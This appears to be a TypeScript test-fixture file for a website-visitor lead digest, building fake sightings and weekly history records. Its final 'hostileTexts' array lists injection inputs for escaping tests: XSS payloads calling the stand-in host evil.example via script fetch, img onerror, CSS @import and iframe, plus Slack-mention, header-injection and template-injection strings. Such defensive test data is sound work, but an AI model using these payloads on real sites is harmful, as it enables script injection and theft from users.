import { gather, type Segment } from '../../src/digest/gather.ts';
import type { History } from '../../src/history/index.ts';
import type { Site } from '../../src/history/runs.ts';
import type { StoredSighting } from '../../src/history/sightings.ts';
import type { Counts, Manifest } from '../../src/run-types.ts';
import { manifest, run, sighting, someHistory, week } from '../history/make.ts';

/** A lead with evidence; the rest as it is given. */
export const visitor = (name: string, more: Partial<StoredSighting> = {}): StoredSighting =>
  sighting(name, {
    status: 'new',
    reasons: [
      { signal: 'intent', points: 20, text: 'read /pricing (3 views)' },
      { signal: 'engagement', points: 15, text: '5 of 5 sessions engaged' },
      { signal: 'volume', points: 10, text: '5 sessions' },
    ],
    evidence: {
      page: [
        { value: '/pricing?mail=anna%40example.com', metrics: { pageViews: 2 } },
        { value: '/pricing#top', metrics: { pageViews: 1 } },
        { value: '/demo', metrics: { pageViews: 2 } },
      ],
      channel: [{ value: 'Direct', metrics: { sessions: 5 } }],
      country: [{ value: 'France', metrics: { sessions: 5, pageViews: 90 } }],
    },
    ...more,
  });

export const excluded = (name: string, more: Partial<StoredSighting> = {}): StoredSighting =>
  sighting(name, {
    key: `n:${name}|out`,
    fate: 'excluded',
    type: 'isp',
    rule: 'us-cox',
    why: 'US cable carrier',
    ...more,
  });

/** Records a week (10 is 2026-W46) with these sightings and counts that fit them. */
export function record(
  history: History,
  weekNumber: number,
  sightings: readonly StoredSighting[],
  more: Partial<Manifest> = {},
  site: Site = 'own',
): void {
  const days = week(weekNumber);
  const removed = sightings.filter(({ fate }) => fate === 'excluded');
  const counts: Counts = {
    ...manifest.counts,
    rows: sightings.length,
    organisations: sightings.length,
    excluded: Object.fromEntries(
      [...Map.groupBy(removed, ({ type }) => type)].map(([type, of]) => [type, of.length]),
    ),
    leads: sightings.filter(({ fate }) => fate === 'lead').length,
    sessions: { total: 100, byType: { isp: 60 } },
  };
  const ranked = sightings.map((one, index) => (one.fate === 'lead' ? { ...one, rank: index + 1 } : one));
  history.record(run(days, { site, manifest: { ...manifest, days, counts, ...more } }), ranked);
}

/** What is told of 2026-W46 after these weeks. */
export function factsAfter(
  weeks: Record<number, readonly StoredSighting[]>,
  more: { segment?: Segment; manifest?: Partial<Manifest>; history?: History } = {},
) {
  const history = more.history ?? someHistory();
  for (const [number, sightings] of Object.entries(weeks)) {
    record(history, Number(number), sightings, Number(number) === 10 ? more.manifest : {});
  }
  const run = history.runs.latest('own');
  if (!run) throw new Error('no run was recorded');
  return gather(history, {
    run,
    ...(more.segment && { segment: more.segment }),
    today: '2026-11-22',
    doubt: (removed) =>
      removed.map(({ name, type, metrics: { sessions = 0 } }) => ({
        name,
        type,
        sessions,
        reasons: ['its rule is only 0.7 sure', 'its name says steel', '5 of 5 sessions engaged', 'a fourth'],
      })),
  });
}

/** Names, pages and channels that want to be more than text. */
export const hostileTexts = [
  '<script>fetch("http://evil.example/?js")</script>',
  '"><img src=http://evil.example/img onerror=alert(1)>',
  '<a href="http://evil.example/">Win</a>',
  '</table></style><style>@import "http://evil.example/css"</style>',
  '<svg onload=alert(1)><use href="http://evil.example/svg#a"/></svg>',
  ']]></style><iframe src=//evil.example></iframe>',
  'https://evil.example/login',
  'www.evil.example',
  '<!channel> <@U123> &lt;b&gt; *bold* _it_ `code` :boom:',
  'Evil\u202egnp.exe\u0007\r\nBcc: x',
  'x'.repeat(3000),
  '{a|b} {b} {c} {{7*7}}',
];

export const hostileWeek = hostileTexts.map((text) =>
  visitor(text, {
    domain: text,
    reasons: [{ signal: 'volume', points: 5, text }],
    evidence: {
      page: [{ value: text, metrics: { pageViews: 3 } }],
      channel: [{ value: text, metrics: { sessions: 2 } }],
      country: [{ value: text, metrics: { sessions: 2 } }],
    },
  }),
);
